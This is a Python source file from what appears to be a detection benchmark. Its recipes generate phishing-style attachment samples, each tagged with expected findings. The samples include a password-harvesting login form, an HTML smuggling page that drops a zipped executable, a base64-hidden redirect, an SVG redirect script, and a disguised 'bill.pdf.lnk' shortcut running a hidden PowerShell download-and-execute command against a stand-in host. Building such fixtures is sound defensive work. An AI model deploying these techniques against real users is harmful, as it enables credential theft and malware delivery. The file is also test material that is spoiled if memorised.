"""Recipes for pages, pictures, calendars and shortcuts."""

from __future__ import annotations

import base64
import io
import platform
from importlib.metadata import version
from pathlib import Path

from PIL import Image

from bench import real_programs as programs
from bench.real_recipes import Made, recipe, sent

_CODE = "https://qr.example/login"
_FORM = """<!DOCTYPE html><html><head><title>Sign in</title></head><body><h1>Session expired</h1>
<form method="post" action="https://form.example/collect"><input name="user" value="suzuki@jimusho.example">
<input type="password" name="pass"><button>Sign in</button></form></body></html>"""


@recipe("page with a login form", kinds="html", hosts="form.example", findings="html_file body/password_form")
def _form(folder: Path) -> Made:
    return sent(folder, "by hand", ("Invoice.html", _FORM.encode()))


@recipe("page in a zip, with a login form", kinds="zip html", hosts="form.example", findings="html_file")
def _zipped(folder: Path) -> Made:
    (folder / "Invoice.html").write_text(_FORM)
    programs.run("zip", "-q", "p.zip", "Invoice.html", folder=folder)
    return sent(folder, programs.version("zip"), ("p.zip", (folder / "p.zip").read_bytes()))


@recipe("page that builds a file (smuggling)", kinds="html", traits="smuggling", findings="html_file smuggling")
def _smuggling(folder: Path) -> Made:
    (folder / "invoice.exe").write_bytes(programs.windows_program())
    programs.run("zip", "-q", "p.zip", "invoice.exe", folder=folder)
    content = base64.b64encode((folder / "p.zip").read_bytes()).decode()
    page = f"""<html><body><script>var d=atob("{content}");var a=new Uint8Array(d.length);
for(var i=0;i<d.length;i++)a[i]=d.charCodeAt(i);var b=new Blob([a],{{type:"octet/stream"}});
var l=document.createElement("a");l.href=URL.createObjectURL(b);l.download="invoice.zip";l.click();</script></body></html>"""
    return sent(folder, f"by hand, {programs.version('zip')}", ("Document.html", page.encode()))


@recipe("page that hides its address", kinds="html", hosts="hidden.example", findings="html_file")
def _obfuscated(folder: Path) -> Made:
    secret = base64.b64encode(b"https://hidden.example/login?u=").decode()
    page = f"<html><body onload=\"location.href=atob('{secret}')+'suzuki'\">Loading</body></html>"
    return sent(folder, "by hand", ("Voicemail.htm", page.encode()))


@recipe("SVG with a script", kinds="svg", hosts="svg.example", traits="script", findings="html_file")
def _svg(folder: Path) -> Made:
    page = """<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">
<rect width="100" height="100"/><script><![CDATA[window.location.href="https://svg.example/login";]]></script></svg>"""
    return sent(folder, "by hand", ("scan.svg", page.encode()))


@recipe("SVG, honest", kinds="svg", harmless=True)
def _svg_honest(folder: Path) -> Made:
    programs.run("qrencode", "-t", "SVG", "-o", "a.svg", "hello", folder=folder)
    return sent(folder, programs.version("qrencode"), ("a.svg", (folder / "a.svg").read_bytes()))


@recipe("web archive (mht)", kinds="mht", hosts="form.example", findings="html_file")
def _mht(folder: Path) -> Made:
    page = f"""From: <Saved by Blink>
Snapshot-Content-Location: https://form.example/
Subject: Sign in
MIME-Version: 1.0
Content-Type: multipart/related; type="text/html"; boundary="----MultipartBoundary--x----"

------MultipartBoundary--x----
Content-Type: text/html
Content-ID: <frame-1@mhtml.blink>
Content-Transfer-Encoding: base64
Content-Location: https://form.example/

{base64.encodebytes(_FORM.encode()).decode()}
------MultipartBoundary--x------
"""
    return sent(folder, "by hand (Chromium's form)", ("page.mht", page.replace("\n", "\r\n").encode()))


_ICAL = """
import datetime, icalendar
calendar = icalendar.Calendar()
calendar.add("prodid", "-//Supplier//EN"); calendar.add("version", "2.0"); calendar.add("method", "REQUEST")
event = icalendar.Event()
event.add("summary", "Payment review"); event.add("uid", "1@supplier.example")
event.add("dtstart", datetime.datetime(2026, 11, 20, 10)); event.add("dtstamp", datetime.datetime(2026, 11, 10, 10))
event.add("description", "Join here: https://meeting.example/join?id=123456789012345678901234567890123456789")
event.add("url", "https://event.example/x"); event.add("organizer", "mailto:sato@supplier.example")
calendar.add_component(event)
open("invite.ics", "wb").write(calendar.to_ical())
"""
_VCARD = """
import vobject
card = vobject.vCard()
card.add("n"); card.n.value = vobject.vcard.Name(family="Sato", given="Jiro"); card.add("fn"); card.fn.value = "Jiro Sato"
card.add("url"); card.url.value = "https://card.example/jiro"
open("sato.vcf", "w").write(card.serialize())
"""


@recipe("invitation (ics)", kinds="ics", hosts="meeting.example event.example", text="Payment review", harmless=True)
def _ics(folder: Path) -> Made:
    by = programs.python("icalendar", _ICAL, folder=folder)
    return sent(folder, by, ("invite.ics", (folder / "invite.ics").read_bytes()))


@recipe("business card (vcf)", kinds="vcf", hosts="card.example", text="Jiro Sato", harmless=True)
def _vcf(folder: Path) -> Made:
    by = programs.python("vobject", _VCARD, folder=folder)
    return sent(folder, by, ("sato.vcf", (folder / "sato.vcf").read_bytes()))


_LNK = r"""
import pylnk3
pylnk3.for_file(
    r"C:\Windows\System32\cmd.exe", "bill.pdf.lnk", icon_file=r"C:\Windows\System32\shell32.dll", icon_index=3,
    arguments="/c powershell -w hidden -c iwr https://lnk.example/a.ps1 | iex", window_mode="Minimized").save("bill.pdf.lnk")
"""
_LNK_REMOTE = r"""
import pylnk3
pylnk3.for_file(r"\\files.example\share\setup.exe", "bill.lnk").save("bill.lnk")
"""


@recipe(
    "shortcut that runs a command (lnk)",
    kinds="lnk",
    traits="command",
    hosts="lnk.example",
    findings="shortcut double_extension executable",
)
def _lnk(folder: Path) -> Made:
    by = programs.python("pylnk3", _LNK, folder=folder)
    return sent(folder, by, ("bill.pdf.lnk", (folder / "bill.pdf.lnk").read_bytes()))


@recipe("shortcut to a share (lnk)", kinds="lnk", traits="remote_target", findings="shortcut")
def _lnk_remote(folder: Path) -> Made:
    by = programs.python("pylnk3", _LNK_REMOTE, folder=folder)
    return sent(folder, by, ("bill.lnk", (folder / "bill.lnk").read_bytes()))


@recipe("shortcut in a disk image", kinds="iso lnk", traits="command", findings="executable shortcut")
def _lnk_iso(folder: Path) -> Made:
    by = programs.python("pylnk3", _LNK, folder=folder)
    programs.run("genisoimage", "-quiet", "-J", "-o", "p.iso", "bill.pdf.lnk", folder=folder)
    return sent(folder, f"{by}, {programs.version('genisoimage')}", ("p.iso", (folder / "p.iso").read_bytes()))


@recipe("internet shortcut (url)", kinds="url", hosts="url.example", findings="shortcut")
def _url(folder: Path) -> Made:
    content = (
        b"[InternetShortcut]\r\nURL=https://url.example/a\r\nIconIndex=0\r\nIconFile=\\\\icon.example\\s\\a.ico\r\n"
    )
    return sent(folder, "by hand (Windows' form)", ("bill.url", content))


def _png(folder: Path) -> bytes:
    programs.run("qrencode", "-s", "6", "-o", "code.png", _CODE, folder=folder)
    return (folder / "code.png").read_bytes()


@recipe("QR code in a PNG", kinds="png", hosts="qr.example", findings="qr_code")
def _qr_png(folder: Path) -> Made:
    return sent(folder, programs.version("qrencode"), ("code.png", _png(folder)))


def _as_picture(folder: Path, kind: str) -> Made:
    """The code on a larger picture, turned a little, as a photo shows it."""
    sheet = Image.new("RGB", (900, 700), "white")
    sheet.paste(Image.open(io.BytesIO(_png(folder))).convert("RGBA").convert("RGB"), (300, 200))
    out = io.BytesIO()
    sheet.rotate(4, fillcolor="white", expand=True).save(out, kind)
    by = f"{programs.version('qrencode')}, Pillow {version('pillow')}"
    return sent(folder, by, (f"scan.{kind.lower()}", out.getvalue()))


@recipe("QR code in a JPEG", kinds="jpeg", hosts="qr.example", findings="qr_code")
def _qr_jpeg(folder: Path) -> Made:
    return _as_picture(folder, "JPEG")


@recipe("QR code in a WebP", kinds="webp", hosts="qr.example", findings="qr_code")
def _qr_webp(folder: Path) -> Made:
    return _as_picture(folder, "WEBP")


@recipe("QR code in a GIF", kinds="gif", hosts="qr.example", findings="qr_code")
def _qr_gif(folder: Path) -> Made:
    return _as_picture(folder, "GIF")


@recipe("QR code in Unicode blocks", hosts="qr.example", findings="qr_code")
def _qr_blocks(folder: Path) -> Made:
    drawn = programs.run("qrencode", "-t", "UTF8", _CODE, folder=folder).decode()
    return sent(folder, programs.version("qrencode"), text=f"Scan the code to sign in:\n\n{drawn}\n")


@recipe("QR code in Unicode blocks, light on dark", hosts="qr.example", findings="qr_code")
def _qr_light(folder: Path) -> Made:
    drawn = programs.run("qrencode", "-t", "UTF8i", _CODE, folder=folder).decode()
    return sent(folder, programs.version("qrencode"), text=f"Scan the code to sign in:\n\n{drawn}\n")


@recipe("QR code in an HTML table", hosts="qr.example", findings="qr_code")
def _qr_table(folder: Path) -> Made:
    picture = Image.open(io.BytesIO(_png(folder))).convert("1")
    side = picture.width // 6
    rows = "".join(
        "<tr>"
        + "".join(
            f'<td style="width:4px;height:4px;background:{"#fff" if picture.getpixel((6 * x + 3, 6 * y + 3)) else "#000"}"></td>'
            for x in range(side)
        )
        + "</tr>"
        for y in range(side)
    )
    page = f'<html><body><p>Scan:</p><table cellspacing="0" cellpadding="0">{rows}</table></body></html>'
    return sent(folder, f"{programs.version('qrencode')}, python {platform.python_version()}", html=page)


@recipe("QR code drawn by qrencode as ASCII", hosts="qr.example", findings="qr_code")
def _qr_ascii(folder: Path) -> Made:
    drawn = programs.run("qrencode", "-t", "ASCII", _CODE, folder=folder).decode()
    return sent(folder, programs.version("qrencode"), text=f"Scan the code to sign in:\n\n{drawn}\n")
